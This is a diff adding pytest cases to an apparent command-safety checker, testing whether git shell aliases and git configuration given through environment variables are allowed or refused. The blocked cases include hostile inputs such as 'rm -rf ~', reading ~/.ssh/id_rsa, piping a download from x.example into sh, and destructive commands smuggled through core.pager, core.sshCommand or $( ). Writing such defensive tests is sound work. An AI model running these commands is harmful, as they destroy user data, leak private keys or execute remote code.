@@ -214,3 +214,79 @@ def test_a_help_flag_turned_off_or_given_as_a_value_is_no_usage_request(command:
     """The last setting wins; an option without ``=`` before it may take it as its value;
     after ``--`` it is an operand; a program not known to be built on cobra may not read it."""
     _blocked_everywhere(command)
+
+
+# (6) a git alias that runs a shell command, and configuration given through the environment
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git -c 'alias.p=!echo hi' p",
+        "git -c 'alias.p=!ls -la' p src",
+        "git -c 'alias.st=!git status --short' st",
+        "git -c 'alias.hi=!f() { echo \"$1\"; }; f' hi there",
+        "git -c 'alias.top=!pwd' top",
+    ],
+)
+def test_a_shell_alias_running_harmless_work_passes(command: str) -> None:
+    """git runs ``sh -c 'COMMAND "$@"' COMMAND ARGS``: judged as that command is."""
+    _allowed_everywhere(command)
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("git -c 'alias.p=!rm -rf ~' p", "rm-home"),
+        ("git -c 'alias.p=!rm -rf ~' status", "rm-home"),
+        ("git -c 'alias.p=!rm' p -rf ~", None),
+        ("git -c 'alias.p=!f() { rm -rf ~; }; f' p", "rm-home"),
+        ("git -c 'alias.p=!cat' p ~/.ssh/id_rsa", None),
+        ("git -c 'alias.p=!curl -s https://x.example/i | sh' p", None),
+        ("git -c 'alias.p=!echo' p $(rm -rf ~)", None),
+        ("git -c 'alias.x=!git push -f' x", "git-push"),
+    ],
+)
+def test_a_shell_alias_running_harmful_work_is_refused_as_that_work(
+    command: str, rule: str | None
+) -> None:
+    """Judged where it is given, with any arguments (a git it starts sees it too), and again
+    with the arguments of the verb that calls it."""
+    _blocked_everywhere(command, rule)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "GIT_CONFIG_PARAMETERS=\"'user.name'='x'\" git log",
+        "GIT_CONFIG_PARAMETERS=\"'user.name=x' 'color.ui=always'\" git log",
+        "GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=always git log",
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=always git log",
+        "GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=ci "
+        "GIT_CONFIG_KEY_1=user.email GIT_CONFIG_VALUE_1=ci@x.example git log -1",
+    ],
+)
+def test_configuration_through_the_environment_is_read_as_dash_c(command: str) -> None:
+    _allowed_everywhere(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf ~'\" git log",
+        "GIT_CONFIG_PARAMETERS=\"'alias.p'='!rm -rf ~'\" git status",
+        "GIT_CONFIG_PARAMETERS=\"'core.sshCommand=rm -rf ~'\" git fetch",
+        "GIT_CONFIG_PARAMETERS=\"'alias.p'='push -f'\" git p",
+        "GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='rm -rf ~' git fetch",
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=always git log; "
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log",
+        "GIT_CONFIG_PARAMETERS=\"'user.name'='x'\" make test",
+    ],
+)
+def test_configuration_through_the_environment_that_runs_a_command_is_refused(
+    command: str,
+) -> None:
+    """As ``git -c`` with the same pairs; every git command of the line judged with its own
+    pairs (round 24 judged the first run of assignments for all); a program other than git
+    passes the variable to every git it starts, unread."""
+    _blocked_everywhere(command)
